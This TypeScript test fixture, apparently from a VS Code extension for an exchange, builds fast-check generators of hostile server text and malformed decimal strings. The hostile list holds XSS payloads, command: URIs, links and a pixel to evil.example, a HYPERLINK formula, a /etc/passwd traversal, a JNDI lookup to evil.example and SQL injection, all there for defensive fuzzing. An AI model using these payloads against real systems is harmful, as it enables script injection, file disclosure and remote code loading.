import * as fc from 'fast-check';

/** What no text of a server may do where it is shown. */
export const hostileTexts: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><svg/onload=alert(1)>',
  '<a href="command:workbench.action.quit">x</a>',
  '<https://evil.example/>',
  '[Confirm](command:workbench.action.quit)',
  '[x](command:a.b)',
  '[click](https://evil.example/)',
  '![](https://evil.example/pixel.png)',
  '[a]: https://evil.example\n\n[a]',
  '$(zap) $(sync~spin)',
  '`code` **bold** _it_ ~~del~~ | cell | # head',
  '\n\n# Heading\n\n- item\n\n---\n',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '&lt;b&gt; &amp; &#60;i&#62;',
  '\u202e990 IRR\u202c \u2066x\u2069 \u200f\u200e\u061c',
  '\u0645\u0648\u062c\u0648\u062f\u06cc \u06a9\u0627\u0641\u06cc \u0646\u06cc\u0633\u062a',
  'a\u0000b\u0007c\u001b[31mred\u001b[0m\r\nx',
  '\u2028\u2029\ufeff\u200b\u2060\u00ad',
  '\ud800 lone \udfff',
  '\ud83d\ude00'.repeat(40),
  'https://evil.example/?q=1',
  'www.evil.example',
  'command:workbench.action.quit',
  '=HYPERLINK("https://evil.example")',
  '+1+1',
  '@SUM(1)',
  '__proto__',
  'constructor',
  'toString',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example}',
  '%s%n%d {0} {{x}}',
  "'; DROP TABLE orders; --",
  'x'.repeat(5000),
  ' ',
];

// Halves of a character too.
const anyCharacters = fc
  .array(fc.integer({ min: 0, max: 0x10ffff }), { maxLength: 60 })
  .map((points) => String.fromCodePoint(...points));

/** A text as a hostile server might send it. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 2, arbitrary: anyCharacters },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...hostileTexts), fc.constantFrom(...hostileTexts))
      .map((two) => two.join(' ')),
  },
);

const digits = (minLength: number, maxLength: number): fc.Arbitrary<string> =>
  fc.string({
    unit: fc.constantFrom('0', '1', '2', '3', '4', '5', '6', '7', '8', '9'),
    minLength,
    maxLength,
  });

/** Decimal texts that an exchange may send: exact, with up to 200 digits a side, and with Python's exponents. */
export const decimalText: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .tuple(fc.integer({ min: 0, max: 999_999_999 }), digits(1, 18))
      .map(([whole, rest]) => `${whole}.${rest}`),
  },
  { weight: 3, arbitrary: fc.bigInt({ min: 0n, max: 10n ** 30n }).map(String) },
  {
    weight: 1,
    arbitrary: fc.tuple(digits(1, 200), digits(1, 200)).map(([whole, rest]) => `${whole}.${rest}`),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.integer({ min: 0, max: 99_999 }),
        fc.constantFrom('e', 'E'),
        fc.constantFrom('', '+', '-'),
        fc.integer({ min: 0, max: 99 }),
      )
      .map(([mantissa, e, sign, power]) => `${mantissa}${e}${sign}${power}`),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom('0', '0.0', '0E-18', '-0', '-1.5', '9007199254740993', '0.1', '1e22'),
  },
);

/** Texts that look like amounts and are none, or not exactly. */
export const brokenDecimals: readonly string[] = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1,000',
  '1.000,5',
  '1_000',
  ' 1',
  '1 ',
  '+1',
  '.5',
  '5.',
  '1e999',
  '1e-999',
  '0x10',
  '1..2',
  '1.2.3',
  '\u06f1\u06f2\u06f3',
  '\u0661.\u0665',
  '\uff11',
  '\u202e1',
  '1\n',
  '1\u0000',
  '--1',
  '1e1.5',
  '\u221e',
  '1/2',
  '9'.repeat(201),
  `0.${'0'.repeat(201)}1`,
  '',
];

/** Numbers written as JSON, among them those that a float cannot hold; each is text for the wire. */
export const rawNumbers: readonly string[] = [
  '0',
  '-0',
  '1',
  '-1',
  '1.5',
  '0.1',
  '9007199254740993',
  '1e400',
  '-1e400',
  '1e-400',
  '1E308',
  '123456789012345678901234567890.123456789',
  '9'.repeat(400),
];
